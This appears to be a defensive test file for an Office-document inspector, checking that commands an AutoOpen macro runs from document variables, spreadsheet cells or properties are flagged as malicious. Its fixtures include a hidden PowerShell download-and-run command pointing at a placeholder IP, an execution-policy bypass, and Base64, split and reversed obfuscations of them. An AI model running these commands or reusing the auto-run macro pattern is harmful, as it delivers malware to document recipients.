/** Macros that run texts which the package stores elsewhere. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'
import { docx } from '#inspect/testing/samples.ts'
import { writeVba } from '#inspect/testing/vba-writer.ts'

const { inspect } = useInspector()

const RUNS = 'Sub AutoOpen()\r\nShell ActiveDocument.Variables("a") & ActiveDocument.Variables("b")\r\nEnd Sub\r\n'
const CLICKED = RUNS.replace('AutoOpen', 'Button1_Click')
const COMMAND = 'powershell.exe -w hidden -c "iwr http://192.0.2.1/a -OutFile a.exe"'

function isMalicious(name: string, xml: string, source = RUNS): boolean {
  const { findings, obstacle } = inspect(
    docx({ [name]: xml, 'word/vbaProject.bin': writeVba({ Module1: `Attribute VB_Name = "Module1"\r\n${source}` }) }),
  )
  assert.equal(obstacle, null)
  return findings.some(({ severity }) => severity === 'malicious')
}

const variables = (...values: string[]): string =>
  `<w:settings>${values.map((value) => `<w:docVar w:name="a" w:val="${value.replaceAll('"', '&quot;')}"/>`).join('')}</w:settings>`
const cells = (...values: string[]): string =>
  `<sst>${values.map((value) => `<si><t>${value}</t></si>`).join('')}</sst>`
const pieces = (text: string): string[] => text.match(/.{1,20}/g) ?? []

suite('a stored command that an automatic macro runs', () => {
  const base64 = Buffer.from(COMMAND).toString('base64')
  const CASES: Record<string, [name: string, xml: string]> = {
    'in a variable': ['word/settings.xml', variables(COMMAND)],
    'in two variables': [
      'word/settings.xml',
      variables('powershell.exe -ep bypass -w 1 -c ', "(New-Object x).Run('a')"),
    ],
    'in pieces': ['word/settings.xml', variables(...pieces(COMMAND))],
    'in cells': ['xl/sharedStrings.xml', cells('Total', COMMAND)],
    'in Base64': ['xl/sharedStrings.xml', cells('Total', base64)],
    'in pieces of Base64': ['xl/worksheets/sheet2.xml', cells('Total', ...pieces(base64))],
    'in UTF-16 and Base64': ['xl/sharedStrings.xml', cells(Buffer.from(COMMAND, 'utf16le').toString('base64'))],
    reversed: ['xl/sharedStrings.xml', cells([...COMMAND].reverse().join(''))],
    'in a property': ['docProps/core.xml', `<p><dc:subject>${COMMAND}</dc:subject></p>`],
    'in an alternative text': ['word/document2.xml', `<d><wp:docPr id="1" descr="cmd /c start x.bat"/></d>`],
  }
  for (const [name, [part, xml]] of Object.entries(CASES))
    test(`is malicious ${name}`, () => assert.ok(isMalicious(part, xml)))
})

test('other texts, or a command that no automatic macro runs, are not malicious', () => {
  assert.ok(!isMalicious('word/settings.xml', variables('Please enable PowerShell', 'Quarter 4')))
  assert.ok(!isMalicious('xl/sharedStrings.xml', cells(Buffer.from('An ordinary text of a cell.').toString('base64'))))
  assert.ok(!isMalicious('word/settings.xml', variables(COMMAND), CLICKED))
  assert.ok(!isMalicious('word/settings.xml', variables(COMMAND), 'Sub AutoOpen()\r\nMsgBox "a"\r\nEnd Sub\r\n'))
})
